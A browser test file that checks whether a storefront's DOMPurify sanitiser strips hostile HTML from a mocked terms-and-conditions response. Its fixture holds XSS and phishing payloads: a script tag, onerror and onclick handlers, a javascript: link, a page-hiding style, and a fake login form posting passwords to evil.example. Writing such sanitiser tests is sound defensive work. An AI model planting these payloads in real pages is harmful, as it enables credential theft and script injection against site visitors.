/**
 * Legal HTML in Chromium: whatever HTML the terms arrive with (here forced with page.route, past the
 * server's own sanitiser), the storefront's DOMPurify keeps only the allow-list of domain/legalHtml.ts.
 * Observed before: a `<style>` in the terms blanked the whole page, header and footer included.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { openChromium, startShop, type RunningShop } from '../../scripts/browser/chromium.ts';

let shop: RunningShop;
let browser: Browser;

beforeAll(async () => {
  shop = await startShop(8194);
  browser = await openChromium();
});
afterAll(async () => {
  await browser?.close();
  await shop?.stop();
});

const HOSTILE = [
  '<style>body { display: none !important } header, footer { visibility: hidden }</style>',
  '<h2>Terms and Conditions</h2>',
  '<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password"><button type="submit">Log in again</button></form>',
  '<script>window.stolen = true</script>',
  '<p style="position: fixed; inset: 0; background: white" onclick="window.stolen = true">We deliver across Rajkot.</p>',
  '<img src="x" onerror="window.stolen = true">',
  '<ul><li><a href="javascript:window.stolen = true">Read more</a></li><li><a href="https://rajkotscoops.example/">Our site</a></li></ul>',
].join('');

describe('legal HTML in Chromium', () => {
  it('a terms text with style, form, script and handlers: the page, header and footer stay, and only the plain text is shown', async () => {
    // page.route sees no request the service worker answers (issue 14): this test plays the network without it.
    const page = await browser.newPage({ serviceWorkers: 'block' });
    await page.route('**/api/getTermsCondition.php', (route) =>
      route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ code: '200', msg: 'Terms', TermsAndCondition: HOSTILE }) }),
    );
    await page.goto(`${shop.url}/terms`);
    const paragraph = page.getByText('We deliver across Rajkot.');
    await paragraph.waitFor();

    expect(await page.locator('header').isVisible()).toBe(true);
    expect(await page.locator('footer').isVisible()).toBe(true);
    expect(await paragraph.isVisible()).toBe(true);
    const found = await page.evaluate(() => {
      const text = [...document.querySelectorAll('p')].find((p) => p.textContent === 'We deliver across Rajkot.')!.parentElement!;
      return {
        hostile: ['style', 'form', 'input', 'button', 'script', 'img'].filter((tag) => text.querySelector(tag)),
        styled: text.querySelector('[style], [onclick], [onerror]') !== null,
        links: [...text.querySelectorAll('a')].map((a) => a.getAttribute('href')),
        stolen: (window as { stolen?: boolean }).stolen ?? false,
        bodyShown: getComputedStyle(document.body).display !== 'none',
      };
    });
    expect(found).toEqual({ hostile: [], styled: false, links: [null, 'https://rajkotscoops.example/'], stolen: false, bodyShown: true });
    await page.close();
  });
});
